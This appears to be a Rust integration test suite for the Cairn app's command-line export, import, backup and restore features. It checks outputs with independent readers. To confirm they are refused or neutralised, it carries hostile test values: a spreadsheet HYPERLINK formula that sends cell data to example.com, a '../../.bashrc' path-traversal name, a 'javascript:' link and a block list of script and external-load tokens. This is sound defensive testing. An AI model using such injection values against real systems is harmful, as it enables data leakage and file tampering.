//! Reports, exports, import, backups and restore through the command line, as real processes over real files,
//! each output read back by an independent reader (poppler's pdftotext/pdfinfo, the csv crate, serde_json,
//! SQLite).

use std::path::{Path, PathBuf};

mod common;
use common::disk::running_as_root;
use common::*;

fn note_ids(dir: &Path, count: usize) -> Result<Vec<i64>, Box<dyn std::error::Error>> {
    let conn = rusqlite::Connection::open(dir.join("cairn.sqlite3"))?;
    let mut stmt = conn.prepare("SELECT id FROM note WHERE deleted_at IS NULL ORDER BY id LIMIT ?1")?;
    let ids = stmt
        .query_map([count as i64], |row| row.get(0))?
        .collect::<Result<Vec<i64>, _>>()?;
    Ok(ids)
}

#[test]
fn the_pdf_report_reads_back_with_milestones_figures_notes_and_page_numbers() -> TestResult {
    let tmp = tempfile::tempdir()?;
    let dir = small_demo(tmp.path())?;
    let pdf = tmp.path().join("report.pdf");
    let pdf_arg = pdf.display().to_string();
    let ids = note_ids(&dir, 2)?;
    let (first, second) = (ids[0].to_string(), ids[1].to_string());
    ok(
        &dir,
        &[
            "export", "--format", "pdf", "--out", &pdf_arg, "--note", &first, "--note", &second,
        ],
    )?;

    let bytes = std::fs::read(&pdf)?;
    assert!(bytes.starts_with(b"%PDF-"), "a PDF file");
    let info = tool("pdfinfo", &[&pdf_arg])?;
    let pages: u32 = info
        .lines()
        .find_map(|line| line.strip_prefix("Pages:"))
        .and_then(|n| n.trim().parse().ok())
        .ok_or("pdfinfo gives a page count")?;
    assert!((2..=12).contains(&pages), "a few pages, got {pages}:\n{info}");
    assert!(
        info.contains("CME writing: progress report"),
        "the title is the PDF's title:\n{info}"
    );

    let extracted = tool("pdftotext", &["-layout", &pdf_arg, "-"])?;
    let conn = rusqlite::Connection::open(dir.join("cairn.sqlite3"))?;
    let milestones: Vec<String> = conn
        .prepare("SELECT title FROM milestone WHERE retired_at IS NULL ORDER BY position")?
        .query_map([], |row| row.get(0))?
        .collect::<Result<_, _>>()?;
    assert_eq!(milestones.len(), 5);
    for title in &milestones {
        assert!(
            extracted.contains(title.as_str()),
            "the PDF names the milestone {title}"
        );
    }
    let (done, total): (u32, u32) = conn.query_row(
        "SELECT count(done_at), count(*) FROM checklist_item WHERE deleted_at IS NULL AND hidden_at IS NULL AND retired_at IS NULL",
        [],
        |row| Ok((row.get(0)?, row.get(1)?)),
    )?;
    let percent = (done * 100 + total / 2) / total;
    assert!(
        extracted.contains(&format!("{percent}%")) && extracted.contains(&format!("{done} of {total} items")),
        "the overall figure {percent}% ({done} of {total}) is in the PDF"
    );
    for heading in [
        "Milestones",
        "Checklist items done",
        "Competencies",
        "Study time",
        "Portfolio",
        "Network",
        "Notes",
    ] {
        assert!(extracted.contains(heading), "the PDF has the section {heading}");
    }
    // A long title wraps: compare with line breaks and runs of spaces made single spaces.
    let flat = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
    let note_title: String =
        conn.query_row("SELECT title FROM note WHERE id = ?1", [ids[0]], |row| row.get(0))?;
    assert!(
        flat(&extracted).contains(&flat(&note_title)),
        "the chosen note {note_title} is in the PDF"
    );
    assert!(
        extracted.contains(&format!("1 of {pages}")),
        "page numbers 'N of M' in the footer"
    );
    assert!(
        extracted.contains(&format!("{pages} of {pages}")),
        "the last page is numbered"
    );
    Ok(())
}

#[test]
fn the_html_report_is_one_file_with_no_external_reference_and_the_markdown_says_the_same() -> TestResult {
    let tmp = tempfile::tempdir()?;
    let dir = small_demo(tmp.path())?;
    let html_path = tmp.path().join("report.html");
    let md_path = tmp.path().join("report.md");
    let id = note_ids(&dir, 1)?[0].to_string();
    ok(
        &dir,
        &[
            "export",
            "--format",
            "html",
            "--out",
            &html_path.display().to_string(),
            "--note",
            &id,
        ],
    )?;
    ok(
        &dir,
        &[
            "export",
            "--format",
            "md",
            "--out",
            &md_path.display().to_string(),
            "--from",
            "2000-01-01",
        ],
    )?;
    let html = std::fs::read_to_string(&html_path)?;
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(
        html.contains("<style>") && html.matches("<svg").count() >= 3,
        "inline CSS and the three charts"
    );
    let lower = html.to_lowercase();
    for external in [
        "<link",
        "<script",
        "src=",
        "@import",
        "url(",
        "<img",
        "<iframe",
        "http-equiv=\"refresh\"",
    ] {
        assert!(!lower.contains(external), "the HTML report holds no {external}");
    }
    // The only URLs are the SVG namespace and links the person wrote in a note (not loaded by anything).
    let addresses = lower
        .match_indices("http://")
        .chain(lower.match_indices("https://"));
    for (at, _) in addresses {
        let rest = &lower[at..];
        assert!(
            rest.starts_with("http://www.w3.org/2000/svg") || lower[..at].ends_with("href=\""),
            "an unexpected address in the HTML: {}",
            &rest[..rest.len().min(60)]
        );
    }
    let markdown = std::fs::read_to_string(&md_path)?;
    assert!(markdown.starts_with("# CME writing: progress report"));
    assert!(
        markdown.contains("1 January 2000 –"),
        "the period is in the Markdown"
    );
    for heading in [
        "## Milestones",
        "## Competencies",
        "## Study time",
        "## Portfolio",
        "## Network",
    ] {
        assert!(markdown.contains(heading), "the Markdown has {heading}");
    }
    Ok(())
}

#[test]
fn csv_files_parse_with_a_real_reader_one_per_kind() -> TestResult {
    let tmp = tempfile::tempdir()?;
    let dir = small_demo(tmp.path())?;
    let parent = tmp.path().join("csv");
    std::fs::create_dir(&parent)?;
    // A notes.csv already in the chosen folder is never overwritten: the files go into a new folder.
    std::fs::write(parent.join("notes.csv"), "mine")?;
    let today = jiff::ZonedDateTime::now().date();
    std::fs::create_dir(parent.join(format!("cairn-csv-{today}")))?;
    // One note is titled like a formula: it must stay text and read back exactly.
    let formula = "=HYPERLINK(\"https://example.com/?\"&I2,\"Open\")";
    rusqlite::Connection::open(dir.join("cairn.sqlite3"))?.execute(
        "UPDATE note SET title = ?1 WHERE id = (SELECT min(id) FROM note WHERE deleted_at IS NULL)",
        [formula],
    )?;
    let printed = ok(
        &dir,
        &[
            "export",
            "--format",
            "csv",
            "--out",
            &parent.display().to_string(),
        ],
    )?;
    let out = parent.join(format!("cairn-csv-{today}-2"));
    assert!(printed.contains(&out.display().to_string()), "{printed}");
    assert_eq!(std::fs::read_to_string(parent.join("notes.csv"))?, "mine");
    let conn = rusqlite::Connection::open(dir.join("cairn.sqlite3"))?;
    let count = |sql: &str| conn.query_row(sql, [], |row| row.get::<_, i64>(0).map(|n| n as usize));
    let expected = [
        ("study-sessions.csv", count("SELECT count(*) FROM study_session WHERE deleted_at IS NULL")?),
        ("notes.csv", count("SELECT count(*) FROM note WHERE deleted_at IS NULL")?),
        ("contacts.csv", count("SELECT count(*) FROM contact WHERE deleted_at IS NULL")?),
        ("portfolio-pieces.csv", count("SELECT count(*) FROM portfolio_piece WHERE deleted_at IS NULL")?),
        ("competency-ratings.csv", count("SELECT count(*) FROM rating r JOIN assessment a ON a.id = r.assessment_id WHERE a.deleted_at IS NULL")?),
        ("interactions.csv", count("SELECT count(*) FROM interaction i JOIN contact c ON c.id = i.contact_id WHERE i.deleted_at IS NULL AND c.deleted_at IS NULL")?),
        ("checklist-items.csv", count("SELECT count(*) FROM checklist_item WHERE deleted_at IS NULL AND retired_at IS NULL")?),
    ];
    for (file, rows) in expected {
        let bytes = std::fs::read(out.join(file))?;
        assert!(
            bytes.starts_with(b"\xEF\xBB\xBF"),
            "{file} starts with a byte-order mark for spreadsheets"
        );
        assert!(
            bytes.windows(2).any(|w| w == b"\r\n"),
            "{file} uses CRLF line ends (RFC 4180)"
        );
        let mut reader = csv::ReaderBuilder::new().from_reader(&bytes[3..]);
        let headers = reader.headers()?.clone();
        let records = reader.records().collect::<Result<Vec<_>, _>>()?;
        assert_eq!(records.len(), rows, "{file} has one row per record");
        assert!(
            records.iter().all(|r| r.len() == headers.len()),
            "{file} rows are complete"
        );
    }
    // A note's Markdown body (with commas, quotes and line breaks) comes back exactly.
    let (title, body): (String, String) = conn.query_row(
        "SELECT title, body FROM note WHERE deleted_at IS NULL AND body LIKE '%' || char(10) || '%' ORDER BY created_at, id LIMIT 1",
        [],
        |row| Ok((row.get(0)?, row.get(1)?)),
    )?;
    let bytes = std::fs::read(out.join("notes.csv"))?;
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let headers = reader.headers()?.clone();
    let (title_at, body_at) = (
        headers
            .iter()
            .position(|h| h == "title")
            .ok_or("a title column")?,
        headers.iter().position(|h| h == "body").ok_or("a body column")?,
    );
    let found = reader
        .records()
        .filter_map(Result::ok)
        .find(|r| r.get(title_at).map(cairn_report::csv_files::read_cell) == Some(title.as_str()))
        .ok_or("the note is in notes.csv")?;
    // A Markdown list starts with "- ", which a spreadsheet would take for a formula: it is neutralised, and the
    // reader gets the text back exactly.
    assert_eq!(
        found.get(body_at).map(cairn_report::csv_files::read_cell),
        Some(body.as_str()),
        "the body survives quoting"
    );
    let titles: Vec<String> = csv::Reader::from_reader(&bytes[3..])
        .records()
        .filter_map(Result::ok)
        .filter_map(|r| r.get(title_at).map(str::to_owned))
        .collect();
    let neutralised = titles
        .iter()
        .find(|t| t.contains("HYPERLINK"))
        .ok_or("the formula-like title")?;
    assert_eq!(
        neutralised,
        &format!("'{formula}"),
        "a spreadsheet reads it as text"
    );
    assert_eq!(cairn_report::csv_files::read_cell(neutralised), formula);
    Ok(())
}

#[test]
fn outputs_into_a_missing_or_read_only_folder_fail_cleanly() -> TestResult {
    let tmp = tempfile::tempdir()?;
    let dir = small_demo(tmp.path())?;
    let missing = tmp.path().join("no-such-folder/report.pdf");
    refused(
        &dir,
        &[
            "export",
            "--format",
            "html",
            "--out",
            &missing.display().to_string(),
        ],
        "io",
    )?;
    assert!(!missing.parent().unwrap_or(tmp.path()).exists());

    let locked = tmp.path().join("locked");
    std::fs::create_dir(&locked)?;
    std::fs::write(locked.join("report.md"), "the old report")?;
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o500))?;
    // Root ignores folder permissions, so the read-only case is checked only where it can fail.
    let root = running_as_root();
    if !root {
        refused(
            &dir,
            &[
                "export",
                "--format",
                "md",
                "--out",
                &locked.join("report.md").display().to_string(),
            ],
            "io",
        )?;
        assert_eq!(
            std::fs::read_to_string(locked.join("report.md"))?,
            "the old report"
        );
    }
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o700))?;
    // A path that is a folder cannot become a report, and nothing is left beside it.
    refused(
        &dir,
        &["export", "--format", "md", "--out", &locked.display().to_string()],
        "io",
    )?;
    let names: Vec<_> = std::fs::read_dir(&locked)?
        .filter_map(Result::ok)
        .map(|e| e.file_name())
        .collect();
    assert_eq!(names.len(), 1, "no partial file left: {names:?}");
    // Bad dates are refused at their field.
    let stderr = refused(
        &dir,
        &[
            "export",
            "--format",
            "md",
            "--out",
            "/tmp/x.md",
            "--from",
            "2026-02-30",
        ],
        "invalid_input",
    )?;
    assert!(stderr.contains("2026-02-30"), "{stderr}");
    refused(
        &dir,
        &[
            "export",
            "--format",
            "json",
            "--out",
            "/tmp/x.json",
            "--from",
            "2026-01-01",
        ],
        "invalid_input",
    )?;
    Ok(())
}

fn export_json(dir: &Path, out: &Path) -> Result<serde_json::Value, Box<dyn std::error::Error>> {
    ok(
        dir,
        &["export", "--format", "json", "--out", &out.display().to_string()],
    )?;
    Ok(serde_json::from_slice(&std::fs::read(out)?)?)
}

#[test]
fn a_json_export_of_the_large_demo_imports_into_an_empty_folder_and_exports_the_same() -> TestResult {
    let tmp = tempfile::tempdir()?;
    let original = tmp.path().join("original");
    ok(&original, &["demo", "--scale", "large"])?;
    let first = export_json(&original, &tmp.path().join("first.json"))?;
    assert_eq!(first["format"], "cairn-export");
    assert_eq!(first["formatVersion"], 1);
    let sessions = first["tables"]["study_session"].as_array().map_or(0, Vec::len);
    assert!(
        sessions > 20_000,
        "the large demo's sessions are in the export: {sessions}"
    );

    let copy = tmp.path().join("copy");
    let stdout = ok(
        &copy,
        &["import", &tmp.path().join("first.json").display().to_string()],
    )?;
    assert!(stdout.contains("imported"), "{stdout}");
    let second = export_json(&copy, &tmp.path().join("second.json"))?;
    assert_eq!(first["schemaVersion"], second["schemaVersion"]);
    // Attachment contents travel in the file and come back byte for byte.
    let files = first["files"].as_array().ok_or("files")?;
    assert_eq!(
        files.len(),
        first["tables"]["attachment_file"].as_array().map_or(0, Vec::len),
        "every stored copy is in the export"
    );
    assert!(files.len() >= 40, "the large demo's attachments: {}", files.len());
    assert_eq!(first["files"], second["files"]);
    let stored = |dir: &Path| -> std::io::Result<Vec<(std::ffi::OsString, Vec<u8>)>> {
        let mut files = std::fs::read_dir(dir.join("attachments"))?
            .map(|entry| {
                let entry = entry?;
                Ok((entry.file_name(), std::fs::read(entry.path())?))
            })
            .collect::<std::io::Result<Vec<_>>>()?;
        files.sort();
        Ok(files)
    };
    assert_eq!(stored(&original)?, stored(&copy)?, "the same attachment files");
    let (a, b) = (&first["tables"], &second["tables"]);
    for (name, rows) in a.as_object().ok_or("tables")? {
        assert_eq!(
            rows, &b[name],
            "table {name} is the same after export → import → export"
        );
    }
    assert_eq!(
        a.as_object().map(|o| o.len()),
        b.as_object().map(|o| o.len()),
        "the same tables"
    );
    // The imported database is a working one: search found its notes again.
    let conn = rusqlite::Connection::open(copy.join("cairn.sqlite3"))?;
    let indexed: i64 = conn.query_row("SELECT count(*) FROM note_search", [], |row| row.get(0))?;
    let live: i64 = conn.query_row("SELECT count(*) FROM note WHERE deleted_at IS NULL", [], |row| {
        row.get(0)
    })?;
    assert_eq!(indexed, live, "every note is searchable after the import");
    ok(&copy, &["check"])?;
    // A second import into the now used folder is refused and changes nothing.
    let before = std::fs::read(copy.join("cairn.sqlite3"))?;
    refused(
        &copy,
        &["import", &tmp.path().join("first.json").display().to_string()],
        "conflict",
    )?;
    assert_eq!(std::fs::read(copy.join("cairn.sqlite3"))?, before);
    Ok(())
}

#[test]
fn an_attachment_whose_stored_copy_is_gone_is_named_and_the_rest_still_round_trips() -> TestResult {
    let tmp = tempfile::tempdir()?;
    let dir = small_demo(tmp.path())?;
    let mut copies: Vec<PathBuf> = std::fs::read_dir(dir.join("attachments"))?
        .map(|entry| entry.map(|e| e.path()))
        .collect::<std::io::Result<_>>()?;
    copies.sort();
    std::fs::remove_file(&copies[0])?;
    std::fs::write(&copies[1], b"changed on disk")?;

    let out = tmp.path().join("export.json");
    let output = cairn(
        &dir,
        &["export", "--format", "json", "--out", &out.display().to_string()],
    )?;
    assert!(output.status.success(), "{}", text(&output.stderr));
    let warnings: Vec<String> = text(&output.stderr)
        .lines()
        .filter(|line| line.starts_with("warning: the stored copy of the attachment"))
        .map(str::to_owned)
        .collect();
    assert_eq!(
        warnings.len(),
        2,
        "the missing and the changed copy: {warnings:?}"
    );
    let export: serde_json::Value = serde_json::from_slice(&std::fs::read(&out)?)?;
    assert_eq!(
        export["files"].as_array().map(Vec::len),
        Some(copies.len() - 2),
        "every other copy is carried"
    );

    // A damaged copy of the same name already in the folder is replaced by the exported content.
    let whole = copies.get(2).ok_or("a third stored copy")?;
    let name = whole.file_name().ok_or("a file name")?;
    let copy = tmp.path().join("copy");
    std::fs::create_dir_all(copy.join("attachments"))?;
    std::fs::write(copy.join("attachments").join(name), b"damaged")?;
    let stdout = ok(&copy, &["import", &out.display().to_string()])?;
    let carried = format!("and {} attachment files", copies.len() - 2);
    assert!(stdout.contains(&carried), "{stdout}");
    assert_eq!(
        std::fs::read_dir(copy.join("attachments"))?.count(),
        copies.len() - 2
    );
    assert_eq!(
        std::fs::read(copy.join("attachments").join(name))?,
        std::fs::read(whole)?
    );
    let conn = rusqlite::Connection::open(copy.join("cairn.sqlite3"))?;
    let listed: i64 = conn.query_row("SELECT count(*) FROM piece_attachment", [], |row| row.get(0))?;
    assert_eq!(listed, 6, "every attachment is still listed");
    Ok(())
}

#[test]
fn bad_imports_name_the_entry_and_field_and_write_nothing() -> TestResult {
    let tmp = tempfile::tempdir()?;
    let dir = small_demo(tmp.path())?;
    let good: serde_json::Value = export_json(&dir, &tmp.path().join("good.json"))?;
    let note_id = good["tables"]["note"][0]["id"].clone();

    let mutate = |f: &dyn Fn(&mut serde_json::Value)| {
        let mut value = good.clone();
        f(&mut value);
        serde_json::to_vec(&value)
    };
    let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let good_bytes = serde_json::to_vec(&good)?;
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("truncated", good_bytes[..good_bytes.len() / 2].to_vec(), "file"),
        ("not JSON", b"hello, world".to_vec(), "file"),
        ("deep nesting", deep.into_bytes(), "file"),
        (
            "another format",
            mutate(&|v| v["format"] = "something-else".into())?,
            "format",
        ),
        (
            "a newer format",
            mutate(&|v| v["formatVersion"] = 2.into())?,
            "formatVersion",
        ),
        (
            "a newer schema",
            mutate(&|v| v["schemaVersion"] = 99.into())?,
            "schemaVersion",
        ),
        (
            "an unknown envelope field",
            mutate(&|v| v["extra"] = true.into())?,
            "extra",
        ),
        (
            "an unknown table",
            mutate(&|v| v["tables"]["secrets"] = serde_json::json!([]))?,
            "tables.secrets",
        ),
        (
            "an unknown field",
            mutate(&|v| v["tables"]["note"][0]["colour"] = "red".into())?,
            "note[0].colour",
        ),
        (
            "a wrong type",
            mutate(&|v| v["tables"]["note"][1]["title"] = 7.into())?,
            "note[1].title",
        ),
        (
            "a missing required field",
            mutate(&|v| {
                v["tables"]["study_session"][2]
                    .as_object_mut()
                    .map(|o| o.remove("seconds"));
            })?,
            "study_session[2].seconds",
        ),
        (
            "a huge string",
            mutate(&|v| v["tables"]["note"][0]["body"] = "x".repeat(3 * 1024 * 1024).into())?,
            "note[0].body",
        ),
        (
            "a duplicate id",
            mutate(&|v| v["tables"]["note"][3]["id"] = note_id.clone())?,
            "note[3].id",
        ),
        (
            "a dangling link",
            mutate(&|v| v["tables"]["study_session"][0]["milestone_id"] = 9999.into())?,
            "study_session[0].milestone_id",
        ),
        (
            "a broken rule",
            mutate(&|v| v["tables"]["study_session"][4]["seconds"] = (-5).into())?,
            "study_session[4]",
        ),
        (
            "records not a list",
            mutate(&|v| v["tables"]["contact"] = serde_json::json!({"a": 1}))?,
            "tables.contact",
        ),
        (
            "attachment content that is not its hash's",
            // "tampered", in base64
            mutate(&|v| v["files"][1]["content"] = "dGFtcGVyZWQ=".into())?,
            "files[1].content",
        ),
        (
            "attachment content that is not base64",
            mutate(&|v| v["files"][0]["content"] = "not base64!".into())?,
            "files[0].content",
        ),
        (
            "attachment content no record lists",
            mutate(&|v| v["files"][0]["sha256"] = "0".repeat(64).into())?,
            "files[0].sha256",
        ),
        (
            "attachment content twice",
            mutate(&|v| {
                let first = v["files"][0].clone();
                if let Some(files) = v["files"].as_array_mut() {
                    files.push(first);
                }
            })?,
            "files[5].sha256",
        ),
        (
            "a stored name that leaves the attachments folder",
            mutate(&|v| v["tables"]["attachment_file"][0]["stored_name"] = "../../.bashrc".into())?,
            "attachment_file[0].stored_name",
        ),
        (
            "an id larger than any Cairn gives",
            mutate(&|v| v["tables"]["note"][0]["id"] = (i64::from(u32::MAX) + 1).into())?,
            "note[0].id",
        ),
        (
            "a control character in a title",
            mutate(&|v| v["tables"]["note"][0]["title"] = "Moore\u{7}s levels".into())?,
            "note[0].title",
        ),
        (
            "an empty note title (the window's own rule)",
            mutate(&|v| v["tables"]["note"][0]["title"] = "   ".into())?,
            "note[0].title",
        ),
        (
            "a contact link that would run script",
            mutate(&|v| v["tables"]["contact"][0]["links"] = "[\"javascript:alert(1)\"]".into())?,
            "contact[0].links[0]",
        ),
        (
            "a study session note longer than the window allows",
            mutate(&|v| v["tables"]["study_session"][0]["note"] = "n".repeat(2_001).into())?,
            "study_session[0].note",
        ),
        (
            "an own checklist item without a title",
            mutate(&|v| {
                let items = v["tables"]["checklist_item"].as_array_mut().expect("items");
                if let Some(own) = items.iter_mut().find(|i| i["key"].is_null()) {
                    own["title"] = " ".into();
                }
            })?,
            "].title",
        ),
        (
            "an attachment named as another type than its copy",
            mutate(&|v| {
                let sha = v["tables"]["attachment_file"][0]["sha256"].clone();
                let attachments = v["tables"]["piece_attachment"]
                    .as_array_mut()
                    .expect("attachments");
                if let Some(a) = attachments.iter_mut().find(|a| a["sha256"] == sha) {
                    a["name"] = "Outcomes report.jar".into();
                }
            })?,
            ".name",
        ),
    ];
    assert_eq!(
        good["files"].as_array().map(Vec::len),
        Some(5),
        "the small demo's six attachments are five stored copies"
    );
    for (what, bytes, field) in cases {
        let target = tmp.path().join(format!("target-{}", what.replace(' ', "-")));
        let file = tmp.path().join("bad.json");
        std::fs::write(&file, &bytes)?;
        let stderr = refused(&target, &["import", &file.display().to_string()], "invalid_input")?;
        assert!(
            stderr.contains(field),
            "{what}: the error names {field}: {stderr}"
        );
        let left: Vec<_> = std::fs::read_dir(&target)
            .map(|entries| entries.filter_map(Result::ok).map(|e| e.file_name()).collect())
            .unwrap_or_default();
        assert!(
            left.is_empty(),
            "{what}: nothing is written into the folder: {left:?}"
        );
    }
    Ok(())
}

#[test]
fn backups_restore_with_the_current_database_kept_and_bad_backups_are_refused() -> TestResult {
    let tmp = tempfile::tempdir()?;
    let dir = small_demo(tmp.path())?;
    let notes = |dir: &Path| -> rusqlite::Result<i64> {
        rusqlite::Connection::open(dir.join("cairn.sqlite3"))?.query_row(
            "SELECT count(*) FROM note",
            [],
            |row| row.get(0),
        )
    };
    let before = notes(&dir)?;
    let out = tmp.path().join("mine.sqlite3");
    ok(&dir, &["backup", "--out", &out.display().to_string()])?;
    let stdout = ok(&dir, &["backup"])?;
    assert!(stdout.contains("backups"), "{stdout}");
    let listed: Vec<_> = std::fs::read_dir(dir.join("backups"))?
        .filter_map(Result::ok)
        .filter(|entry| entry.file_name().to_string_lossy().ends_with(".sqlite3"))
        .collect();
    assert_eq!(listed.len(), 1, "one backup in the folder");
    let name = listed[0].file_name().to_string_lossy().into_owned();
    assert!(
        name.starts_with("cairn-") && name.ends_with("-manual.sqlite3"),
        "{name}"
    );
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&out)?.permissions().mode() & 0o777,
        0o600,
        "owner-only backup"
    );

    // Change the database, then restore the backup: the change is gone and kept in a before-restore backup.
    {
        let conn = rusqlite::Connection::open(dir.join("cairn.sqlite3"))?;
        conn.execute("DELETE FROM note_tag", [])?;
        conn.execute("DELETE FROM rating WHERE note_id IS NOT NULL", [])?;
        conn.execute("UPDATE note SET deleted_at = '2026-01-01T00:00:00Z'", [])?;
    }
    ok(&dir, &["restore", &out.display().to_string()])?;
    assert_eq!(notes(&dir)?, before);
    let live: i64 = rusqlite::Connection::open(dir.join("cairn.sqlite3"))?.query_row(
        "SELECT count(*) FROM note WHERE deleted_at IS NULL",
        [],
        |row| row.get(0),
    )?;
    assert!(live > 0, "the restored notes are live again");
    let kept: Vec<String> = std::fs::read_dir(dir.join("backups"))?
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        kept.iter().any(|n| n.ends_with("-before-restore.sqlite3")),
        "{kept:?}"
    );
    ok(&dir, &["check"])?;

    // Not a Cairn database, another program's SQLite file, a missing file: refused, nothing changed.
    let db = std::fs::read(dir.join("cairn.sqlite3"))?;
    let junk = tmp.path().join("junk.sqlite3");
    std::fs::write(&junk, "not a database at all")?;
    refused(&dir, &["restore", &junk.display().to_string()], "db_corrupt")?;
    let other = tmp.path().join("other.sqlite3");
    rusqlite::Connection::open(&other)?.execute_batch("CREATE TABLE t (x); INSERT INTO t VALUES (1);")?;
    refused(&dir, &["restore", &other.display().to_string()], "db_corrupt")?;
    refused(
        &dir,
        &[
            "restore",
            &tmp.path().join("missing.sqlite3").display().to_string(),
        ],
        "io",
    )?;
    assert_eq!(
        std::fs::read(dir.join("cairn.sqlite3"))?,
        db,
        "the database is untouched"
    );
    Ok(())
}
